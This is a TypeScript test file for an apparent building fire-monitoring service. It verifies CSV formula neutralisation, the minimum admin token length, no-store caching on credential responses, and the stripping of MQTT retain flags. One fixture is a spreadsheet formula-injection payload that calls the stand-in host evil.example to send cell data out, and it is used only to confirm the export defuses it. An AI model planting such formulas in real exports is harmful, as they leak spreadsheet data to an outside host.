/**
 * Smaller edge defects of issue #12, through the wire: CSV formula injection in exports (item 8),
 * a short ADMIN_TOKEN (11), responses with credentials cached (11), retained device publishes (11).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, loadConfig } from '../../services/config/config.js';
import { neutraliseCell } from '../../services/shared/csv.js';
import { ADMIN_TOKEN, connectDevice, endClient, provisionDevice, startService, waitFor, type TestService } from '../support/service.js';

let svc: TestService;
beforeAll(async () => {
  svc = await startService();
});
afterAll(async () => {
  await svc.stop();
});

describe('CSV exports are safe to open in a spreadsheet', () => {
  it('a building named like a formula comes out as text in coverage.csv; numbers stay numbers', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const b = await svc.api.post('/api/v1/buildings', { name: evil, street: '化龙桥', address: '@SUM(1+1)', type: 'public', heightM: 120, use: 'complex' });
    expect(b.status).toBe(201);
    const res = await fetch(`${svc.fw.httpUrl}/api/v1/coverage.csv?street=${encodeURIComponent('化龙桥')}`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    for (const [input, out] of [['+1+1', "'+1+1"], ['-2+3', "'-2+3"], ['@x', "'@x"], ['\tx', "'\tx"], ['\rx', "'\rx"], ['-0.05', '-0.05'], ['12', '12'], ['来福士', '来福士']]) {
      expect(neutraliseCell(input!)).toBe(out);
    }
  });
});

describe('ADMIN_TOKEN', () => {
  it('shorter than 32 characters is refused at start, naming the variable', () => {
    const e = (() => {
      try {
        loadConfig({ ADMIN_TOKEN: 'short-token' });
      } catch (err) {
        return err;
      }
      return undefined;
    })();
    expect(e).toBeInstanceOf(ConfigError);
    expect((e as ConfigError).message).toMatch(/ADMIN_TOKEN.*at least 32/);
    expect(() => loadConfig({ ADMIN_TOKEN: 'x'.repeat(32) })).not.toThrow();
  });
});

describe('responses with credentials are not cached', () => {
  it('device registration, login and other API answers carry Cache-Control: no-store', async () => {
    const b = await svc.api.post('/api/v1/buildings', { name: '解放碑大厦', street: '解放碑', type: 'public', heightM: 80, use: 'office' });
    const d = await svc.api.post('/api/v1/devices', { buildingId: b.body.id, kind: 'water_pressure', point: 'hydrant_top', reportIntervalS: 60 });
    expect(d.status).toBe(201);
    expect(d.body.credentials.password).toBeTruthy();
    expect(d.headers.get('cache-control')).toBe('no-store');
    const login = await svc.api.request('POST', '/api/v1/auth/login', { username: 'nobody', password: 'wrong-password' }, undefined);
    expect(login.headers.get('cache-control')).toBe('no-store');
    expect((await svc.api.get('/healthz')).headers.get('cache-control')).toBeNull(); // not an API answer
  });
});

describe('retained publishes from devices', () => {
  it('RETAIN is stripped and counted; the reading itself is stored', async () => {
    const p = await provisionDevice(svc.api);
    const c = await connectDevice(svc.mqttUrl, p);
    await new Promise<void>((resolve, reject) =>
      c.publish(`fire/v1/${p.deviceId}/telemetry`, JSON.stringify({ seq: 1, pressureMpa: 0.3 }), { qos: 1, retain: true }, (err) => (err ? reject(err) : resolve())),
    );
    await waitFor(async () => (await svc.api.get(`/api/v1/devices/${p.deviceId}/readings?limit=5`)).body.items.length === 1, 'stored');
    const metrics = (await svc.api.get('/metrics')).body as string;
    expect(metrics).toMatch(/^firewatch_mqtt_retain_stripped_total 1$/m);
    await endClient(c);
  });
});
